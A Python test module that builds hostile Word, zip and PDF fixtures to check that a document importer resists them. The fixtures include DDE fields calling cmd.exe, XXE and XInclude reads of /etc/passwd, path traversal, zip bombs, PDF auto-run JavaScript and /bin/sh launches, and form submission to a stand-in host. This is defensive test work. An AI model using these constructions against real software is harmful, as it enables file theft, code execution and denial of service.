"""More hostile files: active content, parts that point elsewhere, archives that lie about themselves."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.integration.exchange.importers.hostile import (
    EITHER,
    READS,
    HostileFile,
    docx_of,
    honest_docx,
    paragraph,
    pdf_of,
    stream,
)

_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORDS = b"BT /F1 12 Tf 72 700 Td (The panel met in spring.) Tj ET\n"
_REFUSED = "unpacks to far more|damaged|cut short"


def _pointing(kind: str, target: str, *, is_outside: bool = True) -> bytes:
    """Return a Word file whose document part points to something by a relationship of this kind."""
    mode = ' TargetMode="External"' if is_outside else ""
    relations = (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_OFFICE}/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )
    return docx_of(paragraph("The panel met."), extra={"word/_rels/document.xml.rels": relations.encode()})


def _field(instruction: str) -> bytes:
    body = (
        f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>Press</w:t></w:r></w:fldSimple></w:p>'
        f"{paragraph('The panel met.')}"
    )
    return docx_of(body)


def _repacked(*entries: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    """Return the honest Word file with entries added as they are given."""
    buffer = io.BytesIO(honest_docx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def _symbolic_link() -> bytes:
    link = zipfile.ZipInfo("word/media/link")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return _repacked((link, b"/etc/passwd"))


def _quoted_overlap() -> bytes:
    """Return a zip file in which each entry's data holds the local header of the next as stored words."""
    kernel = zlib.compress(b"\0" * 1_000_000, 9)[2:-4]
    body, directory, n_entries = b"", b"", 400
    for number in reversed(range(n_entries)):
        name = f"word/{number:03}.xml".encode()
        # A stored block of deflate quotes what follows, so that it counts for every entry before it.
        quoted = struct.pack("<BHH", 0, min(len(body), 0xFFFF), 0xFFFF - min(len(body), 0xFFFF))
        data = quoted + body[:0xFFFF] if body else kernel
        header = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(data), 1_000_000, len(name), 0)
        body = header + name + (quoted if body else kernel) + body
    for number in range(n_entries):
        name = f"word/{number:03}.xml".encode()
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(body), 1_000_000, len(name), 0, 0, 0, 0, 0, 0
        ) + name  # fmt: skip
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, n_entries, n_entries, len(directory), len(body), 0)
    return body + directory + end


def _lying_length(size: int) -> bytes:
    """Return a Word file whose directory gives its document part this size."""
    data = bytearray(honest_docx())
    place = data.find(b"word/document.xml", data.find(b"PK\1\2")) - 46
    data[place + 24 : place + 28] = struct.pack("<L", size)
    return bytes(data)


def _page(*more: str | bytes, catalogue: str = "", page: str = "") -> bytes:
    return pdf_of(
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        f"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> {page} >>",
        stream(_WORDS),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    )


def _pixel_flood() -> bytes:
    """Return a PDF with a picture of 100,000 by 100,000 points in a few bytes."""
    picture = stream(
        zlib.compress(b"\0" * 1_000_000),
        "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 "
        "/ColorSpace /DeviceRGB /Filter /FlateDecode",
    )
    return pdf_of(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>",
        stream(_WORDS + b"q 500 0 0 500 0 0 cm /X Do Q\n"),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        picture,
    )


def many_pages(n_pages: int) -> bytes:
    """Return a PDF whose tree names one page over and over."""
    kids = "3 0 R " * n_pages
    return pdf_of(
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {n_pages} >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> >> >>",
        stream(_WORDS),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def _quadratic() -> bytes:
    entity = f'<!DOCTYPE w [<!ENTITY a "{"A" * 50_000}">]>'
    return docx_of(paragraph("&a;" * 20_000), before=entity)


def active_files() -> Iterator[HostileFile]:
    """Yield them."""
    yield HostileFile(
        "template elsewhere", lambda: _pointing("attachedTemplate", "http://203.0.113.9/t.dotm"), READS
    )
    yield HostileFile("picture elsewhere", lambda: _pointing("image", "http://203.0.113.9/x.png"), READS)
    yield HostileFile("file share elsewhere", lambda: _pointing("image", r"\\203.0.113.9\x\y.png"), READS)
    yield HostileFile("frame elsewhere", lambda: _pointing("frame", "http://203.0.113.9/f.html"), READS)
    yield HostileFile("object elsewhere", lambda: _pointing("oleObject", "file:///etc/passwd"), READS)
    yield HostileFile(
        "footnotes outside the archive",
        lambda: _pointing("footnotes", "../../../../etc/passwd", is_outside=False),
        EITHER,
    )
    yield HostileFile(
        "embedded object",
        lambda: docx_of(paragraph("x"), extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 99}),
        READS,
    )
    yield HostileFile(
        "embedded control",
        lambda: docx_of(paragraph("x"), extra={"word/activeX/activeX1.bin": b"\0" * 99}),
        EITHER,
    )
    yield HostileFile("DDE field", lambda: _field(r"DDEAUTO c:\\windows\\system32\\cmd.exe"), READS)
    yield HostileFile(
        "field that fetches", lambda: _field(r"INCLUDEPICTURE http://203.0.113.9/a.png \d"), READS
    )
    yield HostileFile("field that reads a file", lambda: _field("INCLUDETEXT /etc/passwd"), READS)
    yield HostileFile(
        "other document inside",
        lambda: docx_of('<w:altChunk xmlns:r="x" r:id="r9"/>' + paragraph("The panel met.")),
        READS,
    )
    yield HostileFile("quadratic blow-up", _quadratic, f"entities|{_REFUSED}")
    yield HostileFile(
        "parameter entity",
        lambda: docx_of(
            paragraph("x"), before='<!DOCTYPE w [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
        ),
        "entities",
    )
    yield HostileFile(
        "inclusion of a file",
        lambda: docx_of(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
            + paragraph("The panel met.")
        ),
        READS,
    )
    yield HostileFile(
        "100,000 attributes",
        lambda: docx_of("<w:p " + " ".join(f'a{n}="x"' for n in range(100_000)) + "/>" + paragraph("x")),
        EITHER,
    )
    yield HostileFile("name of a megabyte", lambda: docx_of(f"<{'a' * 1_000_000}/>" + paragraph("x")), EITHER)
    yield HostileFile("symbolic link", _symbolic_link, READS)
    yield HostileFile("absolute path", lambda: _repacked(("/etc/cron.d/x", b"x")), READS)
    yield HostileFile("path of another system", lambda: _repacked(("..\\..\\x.exe", b"x")), READS)
    yield HostileFile("name with a line end", lambda: _repacked(("word/a\nb.xml", b"x")), EITHER)
    yield HostileFile(
        "65,000 entries", lambda: _repacked(*((f"w/{n}", b"") for n in range(65_000))), _REFUSED
    )
    yield HostileFile("entries that quote each other", _quoted_overlap, _REFUSED)
    yield HostileFile("a part said to be 1 GB", lambda: _lying_length(1 << 30), _REFUSED)
    yield HostileFile("a part said to be empty", lambda: _lying_length(0), f"{_REFUSED}|no body|no text")
    yield HostileFile(
        "4 GB said in a text", lambda: b"Content-Length: 4294967296\r\n\r\nThe panel met.", READS
    )
    yield HostileFile(
        "PDF that runs a script",
        lambda: _page(catalogue="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        READS,
    )
    yield HostileFile(
        "PDF that starts a program",
        lambda: _page(catalogue="/OpenAction << /S /Launch /F (/bin/sh) >>"),
        READS,
    )
    yield HostileFile(
        "PDF that sends a form",
        lambda: _page(page="/AA << /O << /S /SubmitForm /F (http://203.0.113.9/) >> >>"),
        READS,
    )
    yield HostileFile(
        "PDF that opens an address",
        lambda: _page(catalogue="/OpenAction << /S /URI /URI (http://203.0.113.9/) >>"),
        READS,
    )
    yield HostileFile(
        "PDF with a file inside",
        lambda: _page(
            stream(b"MZ" + b"\0" * 999, "/Type /EmbeddedFile"),
            "<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>",
            catalogue="/Names << /EmbeddedFiles << /Names [(x.exe) 7 0 R] >> >>",
        ),
        READS,
    )
    yield HostileFile("PDF with a picture of 10,000 megapixels", _pixel_flood, READS)
    yield HostileFile("PDF that names one page 100,000 times", lambda: many_pages(100_000), "100,000 pages")
    yield HostileFile(
        "PDF with arrays in arrays",
        lambda: _page(catalogue="/X " + "[" * 50_000 + "]" * 50_000),
        EITHER,
    )
    yield HostileFile(
        "PDF length of an object that is itself",
        lambda: _page(b"<< /Length 6 0 R >>\nstream\nx\nendstream"),
        READS,
    )
    yield HostileFile("picture that is a page too", lambda: b"GIF89a/*<html><script>*/", "picture|web page")
    yield HostileFile("program that is a zip too", lambda: b"MZ" + b"\0" * 62 + honest_docx(), "program")
